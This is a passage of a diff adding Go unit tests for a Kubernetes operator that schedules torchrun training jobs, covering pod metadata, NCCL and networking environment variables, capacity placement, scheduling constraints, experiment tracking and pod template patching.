+			t.Errorf("%s: expected no update, got %+v", test.description, update)
+		}
+		if test.expectReason != "" && (update == nil || update.Reason != test.expectReason || update.Synced != test.expectSynced) {
+			t.Errorf("%s: expected reason %s synced %v, got %+v", test.description, test.expectReason, test.expectSynced, update)
+		}
+		if test.expectMessage != "" && (update == nil || !strings.HasPrefix(update.Message, test.expectMessage)) {
+			t.Errorf("%s: expected message %q, got %+v", test.description, test.expectMessage, update)
+		}
+
+		err = c.Get(ctx, key, k8sJob)
+		if deleted := apierrors.IsNotFound(err) || (err == nil && k8sJob.DeletionTimestamp != nil); deleted != test.expectDeleted {
+			t.Errorf("%s: expected Job deleted %v, got %v", test.description, test.expectDeleted, err)
+		}
+		if test.expectSynced && (k8sJob.Spec.ActiveDeadlineSeconds == nil || *k8sJob.Spec.ActiveDeadlineSeconds != deadline) {
+			t.Errorf("%s: expected patched deadline %d, got %v", test.description, deadline, k8sJob.Spec.ActiveDeadlineSeconds)
+		}
+		if test.legacy && k8sJob.Annotations[specHashAnnotation] == "" {
+			t.Errorf("%s: expected spec hash to be recorded, got %v", test.description, k8sJob.Annotations)
+		}
+		if update == nil && !test.expectDeleted && k8sJob.Annotations[queueGenerationAnnotation] != strconv.FormatInt(updatedQueue.Generation, 10) {
+			t.Errorf("%s: expected queue generation %d to be recorded, got %v", test.description, updatedQueue.Generation, k8sJob.Annotations)
+		}
+	}
+}
+
+func TestBuildPodMetadata(t *testing.T) {
+	jq := &torchrunv1alpha1.TorchrunQueue{
+		ObjectMeta: metav1.ObjectMeta{Name: "dev", Namespace: "ml-platform"},
+		Spec: torchrunv1alpha1.JobQueueSpec{
+			Queue: torchrunv1alpha1.QueueConfig{Name: "dev"},
+			PodTemplateConfig: torchrunv1alpha1.PodTemplateConfig{
+				Metadata: torchrunv1alpha1.PodMetadata{
+					Labels:      map[string]string{"team": "research", "tier": "dev", "app": "queue"},
+					Annotations: map[string]string{"sidecar.istio.io/inject": "false", "owner": "research"},
+				},
+			},
+		},
+	}
+
+	tests := []struct {
+		description       string
+		labels            map[string]string
+		annotations       map[string]string
+		childQueue        string
+		namespace         string
+		expectLabels      map[string]string
+		expectAnnotations map[string]string
+	}{
+		{
+			description: "queue metadata is applied",
+			expectLabels: map[string]string{
+				"team":                  "research",
+				"tier":                  "dev",
+				"app":                   "torchrun",
+				"torchrun.ai/job-id":    "train-id",
+				"torchrun.ai/job-name":  "train",
+				"torchrun.ai/job-queue": "dev",
+				"kai.scheduler/queue":   "dev",
+			},
+			expectAnnotations: map[string]string{
+				"sidecar.istio.io/inject": "false",
+				"owner":                   "research",
+				"torchrun.ai/job-id":      "train-id",
+				"torchrun.ai/job-name":    "train",
+				"torchrun.ai/job-queue":   "dev",
+			},
+		},
+		{
+			description: "job metadata overrides the queue but not the controller",
+			labels:      map[string]string{"tier": "prod", "torchrun.ai/job-id": "other", "kai.scheduler/queue": "other"},
+			annotations: map[string]string{"owner": "alice", "torchrun.ai/job-name": "other"},
+			expectLabels: map[string]string{
+				"team":                  "research",
+				"tier":                  "prod",
+				"app":                   "torchrun",
+				"torchrun.ai/job-id":    "train-id",
+				"torchrun.ai/job-name":  "train",
+				"torchrun.ai/job-queue": "dev",
+				"kai.scheduler/queue":   "dev",
+			},
+			expectAnnotations: map[string]string{
+				"sidecar.istio.io/inject": "false",
+				"owner":                   "alice",
+				"torchrun.ai/job-id":      "train-id",
+				"torchrun.ai/job-name":    "train",
+				"torchrun.ai/job-queue":   "dev",
+			},
+		},
+		{
+			description: "job in a child queue is scheduled in the child",
+			childQueue:  "dev-vision",
+			expectLabels: map[string]string{
+				"team":                  "research",
+				"tier":                  "dev",
+				"app":                   "torchrun",
+				"torchrun.ai/job-id":    "train-id",
+				"torchrun.ai/job-name":  "train",
+				"torchrun.ai/job-queue": "dev",
+				"kai.scheduler/queue":   "dev-vision",
+			},
+			expectAnnotations: map[string]string{
+				"sidecar.istio.io/inject": "false",
+				"owner":                   "research",
+				"torchrun.ai/job-id":      "train-id",
+				"torchrun.ai/job-name":    "train",
+				"torchrun.ai/job-queue":   "dev",
+			},
+		},
+		{
+			description: "job in a bound namespace records the queue namespace",
+			namespace:   "team-vision",
+			expectLabels: map[string]string{
+				"team":                            "research",
+				"tier":                            "dev",
+				"app":                             "torchrun",
+				"torchrun.ai/job-id":              "train-id",
+				"torchrun.ai/job-name":            "train",
+				"torchrun.ai/job-queue":           "dev",
+				"torchrun.ai/job-queue-namespace": "ml-platform",
+				"kai.scheduler/queue":             "dev",
+			},
+			expectAnnotations: map[string]string{
+				"sidecar.istio.io/inject": "false",
+				"owner":                   "research",
+				"torchrun.ai/job-id":      "train-id",
+				"torchrun.ai/job-name":    "train",
+				"torchrun.ai/job-queue":   "dev",
+			},
+		},
+	}
+
+	for _, test := range tests {
+		jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+		namespace := jq.Namespace
+		if test.namespace != "" {
+			namespace = test.namespace
+		}
+		job := &torchrunv1alpha1.TorchrunJob{
+			ObjectMeta: metav1.ObjectMeta{Namespace: namespace},
+			Spec: torchrunv1alpha1.TorchrunJobSpec{
+				Queue:       "dev",
+				JobName:     "train",
+				JobID:       "train-id",
+				Labels:      test.labels,
+				Annotations: test.annotations,
+				ChildQueue:  test.childQueue,
+			},
+		}
+
+		if labels := jm.buildPodLabels(job, jq); !reflect.DeepEqual(labels, test.expectLabels) {
+			t.Errorf("%s: expected labels %v, got %v", test.description, test.expectLabels, labels)
+		}
+		if annotations := jm.buildPodAnnotations(job, jq); !reflect.DeepEqual(annotations, test.expectAnnotations) {
+			t.Errorf("%s: expected annotations %v, got %v", test.description, test.expectAnnotations, annotations)
+		}
+	}
+}
+
+func TestBuildDistributedEnvironment(t *testing.T) {
+	tests := []struct {
+		description string
+		distributed torchrunv1alpha1.DistributedConfig
+		expected    []corev1.EnvVar
+	}{
+		{
+			description: "nccl backend exports network tuning in order",
+			distributed: torchrunv1alpha1.DistributedConfig{
+				Backend:      "nccl",
+				Port:         29500,
+				SocketIfname: "eth0",
+				NCCLDebug:    "WARN",
+				NCCLTuning:   map[string]string{"NCCL_NET_GDR_LEVEL": "PHB", "NCCL_IB_HCA": "mlx5"},
+			},
+			expected: []corev1.EnvVar{
+				{Name: "TORCH_DISTRIBUTED_BACKEND", Value: "nccl"},
+				{Name: "MASTER_PORT", Value: "29500"},
+				{Name: "GLOO_SOCKET_IFNAME", Value: "eth0"},
+				{Name: "NCCL_SOCKET_IFNAME", Value: "eth0"},
+				{Name: "NCCL_DEBUG", Value: "WARN"},
+				{Name: "NCCL_IB_HCA", Value: "mlx5"},
+				{Name: "NCCL_NET_GDR_LEVEL", Value: "PHB"},
+			},
+		},
+		{
+			description: "gloo backend skips nccl variables",
+			distributed: torchrunv1alpha1.DistributedConfig{
+				Backend:      "gloo",
+				Port:         29400,
+				SocketIfname: "eth0",
+				NCCLDebug:    "INFO",
+				NCCLTuning:   map[string]string{"NCCL_IB_HCA": "mlx5"},
+			},
+			expected: []corev1.EnvVar{
+				{Name: "TORCH_DISTRIBUTED_BACKEND", Value: "gloo"},
+				{Name: "MASTER_PORT", Value: "29400"},
+				{Name: "GLOO_SOCKET_IFNAME", Value: "eth0"},
+			},
+		},
+		{
+			description: "empty config defaults to nccl",
+			expected:    []corev1.EnvVar{{Name: "TORCH_DISTRIBUTED_BACKEND", Value: "nccl"}},
+		},
+	}
+
+	for _, test := range tests {
+		if env := buildDistributedEnvironment(&test.distributed); !reflect.DeepEqual(env, test.expected) {
+			t.Errorf("%s: expected env %v, got %v", test.description, test.expected, env)
+		}
+	}
+}
+
+func TestAttachEnvironmentJobOverridesQueue(t *testing.T) {
+	jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+	jq := &torchrunv1alpha1.TorchrunQueue{
+		Spec: torchrunv1alpha1.JobQueueSpec{
+			Distributed: torchrunv1alpha1.DistributedConfig{Backend: "nccl", NCCLDebug: "WARN"},
+		},
+	}
+	job := &torchrunv1alpha1.TorchrunJob{
+		Spec: torchrunv1alpha1.TorchrunJobSpec{Env: []corev1.EnvVar{{Name: "NCCL_DEBUG", Value: "INFO"}}},
+	}
+	podSpec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "trainer"}}}
+	jm.attachEnvironment(job, jq, podSpec)
+
+	// The last definition of a variable wins in the container
+	value := ""
+	for _, e := range podSpec.Containers[0].Env {
+		if e.Name == "NCCL_DEBUG" {
+			value = e.Value
+		}
+	}
+	if value != "INFO" {
+		t.Errorf("expected job NCCL_DEBUG=INFO to win, got %q", value)
+	}
+}
+
+func TestAttachCapacityPlacement(t *testing.T) {
+	jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+	spotToleration := corev1.Toleration{Key: "cloud.google.com/gke-spot", Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoSchedule}
+	reservedToleration := corev1.Toleration{Key: "reserved", Operator: corev1.TolerationOpExists}
+	jq := &torchrunv1alpha1.TorchrunQueue{
+		Spec: torchrunv1alpha1.JobQueueSpec{
+			Capacity: &torchrunv1alpha1.CapacityConfig{
+				Spot: torchrunv1alpha1.CapacityPlacement{
+					NodeSelector: map[string]string{"cloud.google.com/gke-spot": "true"},
+					Tolerations:  []corev1.Toleration{spotToleration},
+				},
+				OnDemand: torchrunv1alpha1.CapacityPlacement{
+					NodeSelector: map[string]string{"cloud.google.com/gke-provisioning": "standard"},
+					Tolerations:  []corev1.Toleration{reservedToleration},
+				},
+			},
+		},
+	}
+
+	tests := []struct {
+		description       string
+		capacityType      string
+		status            *torchrunv1alpha1.CapacityStatus
+		expectSelector    map[string]string
+		expectTolerations []corev1.Toleration
+	}{
+		{
+			description:       "job without capacity type keeps the pod template placement",
+			expectSelector:    map[string]string{"pool": "a100"},
+			expectTolerations: nil,
+		},
+		{
+			description:       "spot job is placed on spot nodes",
+			capacityType:      torchrunv1alpha1.CapacityTypeSpot,
+			expectSelector:    map[string]string{"pool": "a100", "cloud.google.com/gke-spot": "true"},
+			expectTolerations: []corev1.Toleration{spotToleration},
+		},
+		{
+			description:       "spot job that fell back is placed on on-demand nodes",
+			capacityType:      torchrunv1alpha1.CapacityTypeSpot,
+			status:            &torchrunv1alpha1.CapacityStatus{Type: torchrunv1alpha1.CapacityTypeOnDemand, Reason: "SpotFallback"},
+			expectSelector:    map[string]string{"pool": "a100", "cloud.google.com/gke-provisioning": "standard"},
+			expectTolerations: []corev1.Toleration{reservedToleration},
+		},
+		{
+			description:       "job on any capacity tolerates both without a node selector",
+			capacityType:      torchrunv1alpha1.CapacityTypeAny,
+			expectSelector:    map[string]string{"pool": "a100"},
+			expectTolerations: []corev1.Toleration{spotToleration, reservedToleration},
+		},
+	}
+
+	for _, test := range tests {
+		job := &torchrunv1alpha1.TorchrunJob{
+			Spec:   torchrunv1alpha1.TorchrunJobSpec{CapacityType: test.capacityType},
+			Status: torchrunv1alpha1.TorchrunJobStatus{Capacity: test.status},
+		}
+		podSpec := &corev1.PodSpec{NodeSelector: map[string]string{"pool": "a100"}}
+		jm.attachCapacityPlacement(job, jq, podSpec)
+
+		if !reflect.DeepEqual(podSpec.NodeSelector, test.expectSelector) {
+			t.Errorf("%s: expected node selector %v, got %v", test.description, test.expectSelector, podSpec.NodeSelector)
+		}
+		if !reflect.DeepEqual(podSpec.Tolerations, test.expectTolerations) {
+			t.Errorf("%s: expected tolerations %v, got %v", test.description, test.expectTolerations, podSpec.Tolerations)
+		}
+	}
+}
+
+func TestAttachSchedulingConstraints(t *testing.T) {
+	jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+	gpuToleration := corev1.Toleration{Key: "nvidia.com/gpu", Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoSchedule}
+	poolToleration := corev1.Toleration{Key: "pool", Operator: corev1.TolerationOpEqual, Value: "a100", Effect: corev1.TaintEffectNoSchedule}
+	constraints := &torchrunv1alpha1.SchedulingConstraints{
+		NodeSelector:      map[string]string{"pool": "a100"},
+		Tolerations:       []corev1.Toleration{gpuToleration, poolToleration},
+		RuntimeClassName:  "nvidia",
+		PriorityClassName: "research-critical",
+	}
+
+	tests := []struct {
+		description       string
+		constraints       *torchrunv1alpha1.SchedulingConstraints
+		patch             string
+		expectSelector    map[string]string
+		expectTolerations []corev1.Toleration
+		expectRuntime     string
+		expectPriority    string
+	}{
+		{
+			description:       "queue without constraints keeps the pod template",
+			expectSelector:    map[string]string{"pool": "h100", "zone": "a"},
+			expectTolerations: []corev1.Toleration{gpuToleration},
+			expectPriority:    "build",
+		},
+		{
+			description:       "constraints replace the pod template placement",
+			constraints:       constraints,
+			expectSelector:    map[string]string{"pool": "a100", "zone": "a"},
+			expectTolerations: []corev1.Toleration{gpuToleration, poolToleration},
+			expectRuntime:     "nvidia",
+			expectPriority:    "research-critical",
+		},
+		{
+			description:       "job patches cannot escape the constraints",
+			constraints:       constraints,
+			patch:             `{"nodeSelector":{"pool":"h200"},"runtimeClassName":"runc"}`,
+			expectSelector:    map[string]string{"pool": "a100", "zone": "a"},
+			expectTolerations: []corev1.Toleration{gpuToleration, poolToleration},
+			expectRuntime:     "nvidia",
+			expectPriority:    "research-critical",
+		},
+	}
+
+	for _, test := range tests {
+		jq := &torchrunv1alpha1.TorchrunQueue{Spec: torchrunv1alpha1.JobQueueSpec{
+			PodTemplateConfig: torchrunv1alpha1.PodTemplateConfig{Spec: runtime.RawExtension{Raw: []byte(
+				`{"nodeSelector":{"pool":"h100","zone":"a"},"tolerations":[{"key":"nvidia.com/gpu","operator":"Exists","effect":"NoSchedule"}],` +
+					`"containers":[{"name":"trainer","image":"pytorch:2.2"}]}`)}},
+			Priorities:            torchrunv1alpha1.QueuePriorityConfig{Default: torchrunv1alpha1.PriorityNormal},
+			SchedulingConstraints: test.constraints,
+		}}
+		job := &torchrunv1alpha1.TorchrunJob{}
+		if test.patch != "" {
+			job.Spec.PodTemplatePatch = &torchrunv1alpha1.PodTemplatePatch{StrategicMerge: &runtime.RawExtension{Raw: []byte(test.patch)}}
+		}
+
+		podSpec, err := getPodSpec(job, jq)
+		if err != nil {
+			t.Fatalf("%s: getPodSpec() error = %v", test.description, err)
+		}
+		jm.attachSchedulingConstraints(jq, &podSpec)
+
+		if !reflect.DeepEqual(podSpec.NodeSelector, test.expectSelector) {
+			t.Errorf("%s: expected node selector %v, got %v", test.description, test.expectSelector, podSpec.NodeSelector)
+		}
+		if !reflect.DeepEqual(podSpec.Tolerations, test.expectTolerations) {
+			t.Errorf("%s: expected tolerations %v, got %v", test.description, test.expectTolerations, podSpec.Tolerations)
+		}
+		if test.expectRuntime != "" && (podSpec.RuntimeClassName == nil || *podSpec.RuntimeClassName != test.expectRuntime) {
+			t.Errorf("%s: expected runtime class %s, got %v", test.description, test.expectRuntime, podSpec.RuntimeClassName)
+		}
+		if priorityClassName := getPriorityClassName(job, jq); priorityClassName != test.expectPriority {
+			t.Errorf("%s: expected priority class %s, got %s", test.description, test.expectPriority, priorityClassName)
+		}
+	}
+}
+
+func TestAttachNetworking(t *testing.T) {
+	jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+
+	tests := []struct {
+		description      string
+		networking       *torchrunv1alpha1.NetworkingConfig
+		backend          string
+		expectHostNet    bool
+		expectShm        string
+		expectResources  map[corev1.ResourceName]int64
+		expectEnv        map[string]string
+		expectCapability bool
+		expectErr        bool
+	}{
+		{
+			description: "queue without networking keeps the pod network",
+		},
+		{
+			description:   "host network uses cluster DNS and a sized /dev/shm",
+			networking:    &torchrunv1alpha1.NetworkingConfig{HostNetwork: true, SharedMemorySize: "64Gi"},
+			expectHostNet: true,
+			expectShm:     "64Gi",
+		},
+		{
+			description:      "InfiniBand devices enable the NCCL IB transport",
+			networking:       &torchrunv1alpha1.NetworkingConfig{RDMA: []torchrunv1alpha1.RDMADevice{{ResourceName: "rdma/hca", Count: 4}}},
+			expectResources:  map[corev1.ResourceName]int64{"rdma/hca": 4},
+			expectEnv:        map[string]string{"NCCL_IB_DISABLE": "0"},
+			expectCapability: true,
+		},
+		{
+			description:      "EFA devices configure libfabric",
+			networking:       &torchrunv1alpha1.NetworkingConfig{RDMA: []torchrunv1alpha1.RDMADevice{{ResourceName: "vpc.amazonaws.com/efa"}}},
+			expectResources:  map[corev1.ResourceName]int64{"vpc.amazonaws.com/efa": 1},
+			expectEnv:        map[string]string{"FI_PROVIDER": "efa", "FI_EFA_USE_DEVICE_RDMA": "1"},
+			expectCapability: true,
+		},
+		{
+			description:      "gloo backend gets the devices without NCCL variables",
+			networking:       &torchrunv1alpha1.NetworkingConfig{RDMA: []torchrunv1alpha1.RDMADevice{{ResourceName: "rdma/hca", Count: 1}}},
+			backend:          "gloo",
+			expectResources:  map[corev1.ResourceName]int64{"rdma/hca": 1},
+			expectCapability: true,
+		},
+		{
+			description: "invalid shared memory size",
+			networking:  &torchrunv1alpha1.NetworkingConfig{SharedMemorySize: "lots"},
+			expectErr:   true,
+		},
+	}
+
+	for _, test := range tests {
+		jq := &torchrunv1alpha1.TorchrunQueue{Spec: torchrunv1alpha1.JobQueueSpec{
+			Networking:  test.networking,
+			Distributed: torchrunv1alpha1.DistributedConfig{Backend: test.backend},
+		}}
+		podSpec := &corev1.PodSpec{Containers: []corev1.Container{{
+			Name:      "trainer",
+			Resources: corev1.ResourceRequirements{Limits: corev1.ResourceList{"nvidia.com/gpu": resource.MustParse("8")}},
+		}}}
+		err := jm.attachNetworking(jq, podSpec)
+		if (err != nil) != test.expectErr {
+			t.Fatalf("%s: attachNetworking() error = %v", test.description, err)
+		}
+		if test.expectErr {
+			continue
+		}
+
+		if podSpec.HostNetwork != test.expectHostNet || (test.expectHostNet && podSpec.DNSPolicy != corev1.DNSClusterFirstWithHostNet) {
+			t.Errorf("%s: expected hostNetwork %v, got %v with DNS policy %q", test.description, test.expectHostNet, podSpec.HostNetwork, podSpec.DNSPolicy)
+		}
+		trainer := podSpec.Containers[0]
+		shm := ""
+		for _, volume := range podSpec.Volumes {
+			if volume.Name == "shm" && volume.EmptyDir.Medium == corev1.StorageMediumMemory {
+				shm = volume.EmptyDir.SizeLimit.String()
+			}
+		}
+		if shm != test.expectShm {
+			t.Errorf("%s: expected /dev/shm of %q, got %q", test.description, test.expectShm, shm)
+		}
+		for name, count := range test.expectResources {
+			request, limit := trainer.Resources.Requests[name], trainer.Resources.Limits[name]
+			if request.Value() != count || limit.Value() != count {
+				t.Errorf("%s: expected %d %s, got request %s and limit %s", test.description, count, name, request.String(), limit.String())
+			}
+		}
+		if gpus := trainer.Resources.Limits["nvidia.com/gpu"]; gpus.Value() != 8 {
+			t.Errorf("%s: expected the GPUs of the template to stay, got %s", test.description, gpus.String())
+		}
+		env := map[string]string{}
+		for _, e := range trainer.Env {
+			env[e.Name] = e.Value
+		}
+		if len(env) != len(test.expectEnv) {
+			t.Errorf("%s: expected env %v, got %v", test.description, test.expectEnv, env)
+		}
+		for name, value := range test.expectEnv {
+			if env[name] != value {
+				t.Errorf("%s: expected %s=%s, got %q", test.description, name, value, env[name])
+			}
+		}
+		hasCapability := trainer.SecurityContext != nil && reflect.DeepEqual(trainer.SecurityContext.Capabilities.Add, []corev1.Capability{"IPC_LOCK"})
+		if hasCapability != test.expectCapability {
+			t.Errorf("%s: expected IPC_LOCK %v, got security context %v", test.description, test.expectCapability, trainer.SecurityContext)
+		}
+	}
+}
+
+func TestAttachExperimentTracking(t *testing.T) {
+	jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+	secretRef := &corev1.LocalObjectReference{Name: "tracking"}
+
+	tests := []struct {
+		description   string
+		tracking      *torchrunv1alpha1.ExperimentTrackingConfig
+		runID         string
+		expectEnv     map[string]string
+		expectEnvFrom bool
+	}{
+		{
+			description: "job without experiment tracking gets no env",
+			expectEnv:   map[string]string{},
+		},
+		{
+			description: "W&B client resumes the run of the job",
+			tracking:    &torchrunv1alpha1.ExperimentTrackingConfig{Provider: "wandb", Project: "vision", Entity: "research", SecretRef: secretRef},
+			runID:       "train-id",
+			expectEnv: map[string]string{
+				"WANDB_PROJECT": "vision",
+				"WANDB_ENTITY":  "research",
+				"WANDB_RUN_ID":  "train-id",
+				"WANDB_RESUME":  "allow",
+			},
+			expectEnvFrom: true,
+		},
+		{
+			description: "MLflow client logs to the created run",
+			tracking:    &torchrunv1alpha1.ExperimentTrackingConfig{Provider: "mlflow", Project: "vision", URL: "https://mlflow.example.com"},
+			runID:       "abc123",
+			expectEnv: map[string]string{
+				"MLFLOW_TRACKING_URI":    "https://mlflow.example.com",
+				"MLFLOW_EXPERIMENT_NAME": "vision",
+				"MLFLOW_RUN_ID":          "abc123",
+			},
+		},
+	}
+
+	for _, test := range tests {
+		job := &torchrunv1alpha1.TorchrunJob{
+			Spec:   torchrunv1alpha1.TorchrunJobSpec{ExperimentTracking: test.tracking},
+			Status: torchrunv1alpha1.TorchrunJobStatus{TrackingRunID: test.runID},
+		}
+		podSpec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "trainer"}}}
+		jm.attachExperimentTracking(job, podSpec)
+
+		env := map[string]string{}
+		for _, e := range podSpec.Containers[0].Env {
+			env[e.Name] = e.Value
+		}
+		if !reflect.DeepEqual(env, test.expectEnv) {
+			t.Errorf("%s: expected env %v, got %v", test.description, test.expectEnv, env)
+		}
+		if envFrom := len(podSpec.Containers[0].EnvFrom) == 1; envFrom != test.expectEnvFrom {
+			t.Errorf("%s: expected secret env %v, got %v", test.description, test.expectEnvFrom, podSpec.Containers[0].EnvFrom)
+		}
+	}
+}
+
+func TestGetPodSpec(t *testing.T) {
+	template := `{"nodeSelector":{"pool":"a100"},"imagePullSecrets":[{"name":"shared"}],"containers":[` +
+		`{"name":"trainer","image":"pytorch:2.2","resources":{"requests":{"cpu":"8","nvidia.com/gpu":"8"}}},` +
+		`{"name":"exporter","image":"exporter:1"}]}`
+
+	tests := []struct {
+		description   string
+		patch         *torchrunv1alpha1.PodTemplatePatch
+		image         string
+		pullSecrets   []string
+		expectImage   string
+		expectCPU     string
+		expectPool    string
+		expectSidecar bool
+		expectSecrets []string
+		expectError   bool
+	}{
+		{
+			description:   "queue pod template without patch",
+			expectImage:   "pytorch:2.2",
+			expectCPU:     "8",
+			expectPool:    "a100",
+			expectSidecar: true,
+			expectSecrets: []string{"shared"},
+		},
+		{
+			description:   "job image and pull secrets",
+			image:         "registry.example.com/alice/pytorch:dev",
+			pullSecrets:   []string{"shared", "alice-registry"},
+			expectImage:   "registry.example.com/alice/pytorch:dev",
+			expectCPU:     "8",
+			expectPool:    "a100",
+			expectSidecar: true,
+			expectSecrets: []string{"shared", "alice-registry"},
+		},
+		{
+			description: "job image replaces the image of the patch",
+			patch: &torchrunv1alpha1.PodTemplatePatch{StrategicMerge: &runtime.RawExtension{
+				Raw: []byte(`{"containers":[{"name":"trainer","image":"pytorch:2.3"}]}`),
+			}},
+			image:         "pytorch:nightly",
+			expectImage:   "pytorch:nightly",
+			expectCPU:     "8",
+			expectPool:    "a100",
+			expectSidecar: true,
+			expectSecrets: []string{"shared"},
+		},
+		{
+			description: "strategic merge patch merges containers by name",
+			patch: &torchrunv1alpha1.PodTemplatePatch{StrategicMerge: &runtime.RawExtension{
+				Raw: []byte(`{"nodeSelector":{"pool":"h100"},"containers":[{"name":"trainer","image":"pytorch:2.3"}]}`),
+			}},
+			expectImage:   "pytorch:2.3",
+			expectCPU:     "8",
+			expectPool:    "h100",
+			expectSidecar: true,
+			expectSecrets: []string{"shared"},
+		},
+		{
+			description: "json patch applies after the strategic merge patch",
+			patch: &torchrunv1alpha1.PodTemplatePatch{
+				StrategicMerge: &runtime.RawExtension{Raw: []byte(`{"containers":[{"name":"trainer","image":"pytorch:2.3"}]}`)},
+				JSONPatch: []torchrunv1alpha1.JSONPatchOperation{
+					{Op: "replace", Path: "/containers/0/resources/requests/cpu", Value: &runtime.RawExtension{Raw: []byte(`"16"`)}},
+					{Op: "remove", Path: "/containers/1"},
+					{Op: "remove", Path: "/nodeSelector"},
+				},
+			},
+			expectImage:   "pytorch:2.3",
+			expectCPU:     "16",
+			expectSecrets: []string{"shared"},
+		},
+		{
+			description: "failed json patch test is an error",
+			patch: &torchrunv1alpha1.PodTemplatePatch{JSONPatch: []torchrunv1alpha1.JSONPatchOperation{
+				{Op: "test", Path: "/containers/0/image", Value: &runtime.RawExtension{Raw: []byte(`"pytorch:2.3"`)}},
+			}},
+			expectError: true,
+		},
+		{
+			description: "json patch of a missing path is an error",
+			patch: &torchrunv1alpha1.PodTemplatePatch{JSONPatch: []torchrunv1alpha1.JSONPatchOperation{
+				{Op: "remove", Path: "/tolerations/0"},
+			}},
+			expectError: true,
+		},
+	}
+
+	for _, test := range tests {
+		jq := &torchrunv1alpha1.TorchrunQueue{Spec: torchrunv1alpha1.JobQueueSpec{
+			PodTemplateConfig: torchrunv1alpha1.PodTemplateConfig{Spec: runtime.RawExtension{Raw: []byte(template)}},
+		}}
+		job := &torchrunv1alpha1.TorchrunJob{Spec: torchrunv1alpha1.TorchrunJobSpec{PodTemplatePatch: test.patch, Image: test.image}}
+		for _, name := range test.pullSecrets {
+			job.Spec.ImagePullSecrets = append(job.Spec.ImagePullSecrets, corev1.LocalObjectReference{Name: name})
+		}
+
+		podSpec, err := getPodSpec(job, jq)
+		if test.expectError {
+			if err == nil {
+				t.Errorf("%s: expected an error", test.description)
+			}
+			continue
+		}
+		if err != nil {
+			t.Fatalf("%s: getPodSpec() error = %v", test.description, err)
+		}
+
+		trainer := podSpec.Containers[0]
+		if trainer.Name != "trainer" || trainer.Image != test.expectImage {
+			t.Errorf("%s: expected trainer image %s, got %s %s", test.description, test.expectImage, trainer.Name, trainer.Image)
+		}
+		if cpu := trainer.Resources.Requests[corev1.ResourceCPU]; cpu.String() != test.expectCPU {
+			t.Errorf("%s: expected cpu %s, got %s", test.description, test.expectCPU, cpu.String())
+		}
+		if gpus := getTrainerGPUs(&podSpec); gpus != 8 {
+			t.Errorf("%s: expected the GPU request to be kept, got %d", test.description, gpus)
+		}
+		if podSpec.NodeSelector["pool"] != test.expectPool {
+			t.Errorf("%s: expected pool %q, got %q", test.description, test.expectPool, podSpec.NodeSelector["pool"])
+		}
+		if sidecar := len(podSpec.Containers) == 2; sidecar != test.expectSidecar {
+			t.Errorf("%s: expected sidecar %v, got containers %v", test.description, test.expectSidecar, podSpec.Containers)
+		}
+		var secrets []string
+		for _, secret := range podSpec.ImagePullSecrets {
+			secrets = append(secrets, secret.Name)
+		}
+		if !reflect.DeepEqual(secrets, test.expectSecrets) {
+			t.Errorf("%s: expected image pull secrets %v, got %v", test.description, test.expectSecrets, secrets)
+		}
+	}
+}
+
+func TestAttachTrainerCommandRdzvEndpoint(t *testing.T) {
+	tests := []struct {
+		description    string
+		rdzvBackend    string
+		port           int32
+		status         torchrunv1alpha1.JobQueueStatus
+		expectEndpoint string
+	}{
+		{
+			description:    "configured endpoint is used",
+			rdzvBackend:    "etcd-v2",
+			expectEndpoint: "etcd.etcd-system.svc.cluster.local:2379",
+		},
+		{
+			description:    "provisioned etcd replaces the configured endpoint",
+			rdzvBackend:    "etcd-v2",
+			status:         torchrunv1alpha1.JobQueueStatus{RdzvEndpoint: "research-etcd.default.svc:2379"},
+			expectEndpoint: "research-etcd.default.svc:2379",
+		},
+		{
+			description:    "static rendezvous is on the rank 0 worker",
+			rdzvBackend:    "static",
+			port:           29600,
+			expectEndpoint: "train-0.train-workers.default.svc:29600",
+		},
+		{
+			description:    "static rendezvous falls back to the default port",
+			rdzvBackend:    "static",
+			expectEndpoint: "train-0.train-workers.default.svc:29500",
+		},
+	}
+
+	for _, test := range tests {
+		jq := &torchrunv1alpha1.TorchrunQueue{
+			Spec: torchrunv1alpha1.JobQueueSpec{
+				Distributed: torchrunv1alpha1.DistributedConfig{
+					RdzvBackend:  test.rdzvBackend,
+					RdzvEndpoint: "etcd.etcd-system.svc.cluster.local:2379",
+					Port:         test.port,
+				},
+			},
+			Status: test.status,
+		}
+		job := &torchrunv1alpha1.TorchrunJob{
+			ObjectMeta: metav1.ObjectMeta{Name: "train", Namespace: "default"},
+			Spec:       torchrunv1alpha1.TorchrunJobSpec{JobName: "train", NumNodes: 2, Command: "python train.py"},
+		}
+		podSpec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "trainer"}}}
+
+		NewJobManager(fake.NewClientBuilder().Build(), true, config.Default()).attachTrainerCommand(job, jq, podSpec)
+		if command := podSpec.Containers[0].Command[2]; !strings.Contains(command, "--rdzv-endpoint "+shellQuote(test.expectEndpoint)+" ") {
+			t.Errorf("%s: expected rendezvous on %s, got %q", test.description, test.expectEndpoint, command)
+		}
+	}
+}
+
+func TestGetRestartSemantics(t *testing.T) {
+	tests := []struct {
+		description         string
+		reliability         torchrunv1alpha1.ReliabilityConfig
+		expectPolicy        corev1.RestartPolicy
+		expectBackoff       int32
+		expectFailurePolicy bool
+		expectMaxRestarts   string
+	}{
+		{
+			description:   "restart policy without a mode",
+			reliability:   torchrunv1alpha1.ReliabilityConfig{MaxRestarts: 3, RestartPolicy: "Never"},
+			expectPolicy:  corev1.RestartPolicyNever,
+			expectBackoff: 3,
+		},
+		{
+			description:       "per pod mode restarts workers in place",
+			reliability:       torchrunv1alpha1.ReliabilityConfig{MaxRestarts: 3, RestartPolicy: "Never", RestartMode: torchrunv1alpha1.RestartModePerPod},
+			expectPolicy:      corev1.RestartPolicyOnFailure,
+			expectBackoff:     3,
+			expectMaxRestarts: "--max-restarts 3",
+		},
+		{
+			description:         "whole job mode fails the Job on the first failure",
+			reliability:         torchrunv1alpha1.ReliabilityConfig{MaxRestarts: 3, RestartPolicy: "OnFailure", RestartMode: torchrunv1alpha1.RestartModeWholeJob},
